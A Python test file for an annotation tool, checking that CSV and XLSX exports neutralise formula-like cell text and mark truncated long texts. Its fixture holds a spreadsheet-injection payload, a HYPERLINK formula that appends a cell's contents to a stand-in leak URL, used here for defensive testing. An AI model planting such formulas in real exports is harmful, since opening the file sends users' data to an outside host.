"""Exports that are safe to open: article text never becomes a live formula, long texts are never cut unsaid."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from annotator.cli import main
from annotator.export.cells import XLSX_CELL_LIMIT, set_text
from annotator.export.exchange import SPAN_COLUMNS, export_spans
from annotator.project import Project

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A2,"Quelle")'
COMMENT = f"Leserkommentar: {HOSTILE} Ende."
NOTES = ["+41 44 123 45 67", "-5 % laut BFS", "@anna bitte prüfen", "\tEingerückt", "\rZeile", "Normal"]


@pytest.fixture
def hostile(tmp_path) -> Project:
    corpus = tmp_path / "hostile.jsonl"
    article = {"id": "k1", "title": "=1+1", "text": COMMENT + "\n\nDie Kosten dürften steigen.", "source": "Landbote"}
    corpus.write_text(json.dumps(article, ensure_ascii=False) + "\n", encoding="utf-8")
    with Project.create(tmp_path / "hostile.db") as project:
        project.import_corpus(corpus)
        doc = next(project.iter_documents())
        start = doc.text.index(HOSTILE)
        project.add_annotation(doc.id, "anna", "loaded_language", start, start + len(HOSTILE))
        for n, note in enumerate(NOTES):
            at = doc.text.index("Kosten")
            project.add_annotation(doc.id, "anna", "hedge", at + n, at + 6, note=note)
        project.set_document_label(doc.id, "=ben", "tone", "negative")
        yield project


def csv_rows(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=delimiter))


def test_csv_cells_that_would_run_as_formulas_open_as_text(hostile, tmp_path):
    path = tmp_path / "spans.csv"
    export_spans(hostile, path)
    rows = csv_rows(path)
    assert "'" + HOSTILE in {r["text"] for r in rows}
    assert {r["note"] for r in rows} == {"", *("'" + n if n[0] in "+-@\t\r" else n for n in NOTES)}
    assert {r["title"] for r in rows} == {"'=1+1"}
    every_cell = [value for r in rows for value in r.values()]
    every_cell += [value for r in csv_rows(tmp_path / "spans_document_codes.csv") for value in r.values()]
    assert "'=ben" in every_cell
    assert not [v for v in every_cell if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_raw_cells_keep_the_text_exactly_for_scripts(hostile, tmp_path):
    path = tmp_path / "spans.csv"
    export_spans(hostile, path, raw_cells=True)
    rows = csv_rows(path)
    quoted = next(r for r in rows if r["category"] == "loaded_language")
    assert quoted["text"] == HOSTILE
    doc = next(hostile.iter_documents())
    assert doc.text[int(quoted["start"]) : int(quoted["end"])] == quoted["text"]
    assert {r["note"] for r in rows} == {"", *NOTES}


def test_xlsx_stores_formula_like_text_as_text(hostile, tmp_path):
    path = tmp_path / "spans.xlsx"
    export_spans(hostile, path)
    book = load_workbook(path)
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    assert HOSTILE in {c.value for c in cells} and "=1+1" in {c.value for c in cells}
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


def test_the_command_line_neutralises_csv_unless_asked_not_to(hostile, tmp_path, capsys):
    guarded, raw = tmp_path / "guarded.csv", tmp_path / "raw.csv"
    assert main(["export-spans", str(guarded), "--project", hostile.location, "-q"]) == 0
    assert main(["export-spans", str(raw), "--project", hostile.location, "-q", "--raw-cells"]) == 0
    capsys.readouterr()
    assert "'" + HOSTILE in {r["text"] for r in csv_rows(guarded)}
    assert HOSTILE in {r["text"] for r in csv_rows(raw)}


def test_a_text_longer_than_a_cell_is_cut_with_a_marker_a_note_and_a_warning(tmp_path, capsys):
    corpus = tmp_path / "long.jsonl"
    text = "Ein sehr langer Leserbrief über die Brücke. " * 1000  # 44,000 characters
    corpus.write_text(json.dumps({"id": "lang", "title": "Lang", "text": text}, ensure_ascii=False) + "\n", encoding="utf-8")
    db = tmp_path / "long.db"
    with Project.create(db) as project:
        project.import_corpus(corpus)
        doc = next(project.iter_documents())
        project.add_annotation(doc.id, "anna", "loaded_language", 0, len(doc.text))
        stored = doc.text
    path = tmp_path / "spans.xlsx"
    assert main(["export-spans", str(path), "--project", str(db), "-q"]) == 0
    out = capsys.readouterr().out
    assert "warning: 1 text(s) longer than the 32,767 characters" in out and "spans!" in out

    sheet = load_workbook(path)["spans"]
    cell = sheet.cell(row=2, column=SPAN_COLUMNS.index("text") + 1)
    assert len(cell.value) <= XLSX_CELL_LIMIT
    assert cell.value.endswith(f"[… cut: {len(stored):,} characters, more than a cell holds]")
    assert stored.startswith(cell.value.split(" [… cut")[0])
    assert cell.comment is not None and f"{len(stored):,} characters" in cell.comment.text


def test_cutting_counts_characters_as_excel_does():
    from openpyxl import Workbook

    sheet = Workbook().active
    assert set_text(sheet["A1"], "😊" * 20_000)  # 20,000 characters but 40,000 UTF-16 units in Excel
    assert len(sheet["A1"].value.encode("utf-16-le")) // 2 <= XLSX_CELL_LIMIT
    assert not set_text(sheet["A2"], "x" * XLSX_CELL_LIMIT)
    assert sheet["A2"].value == "x" * XLSX_CELL_LIMIT and sheet["A2"].comment is None
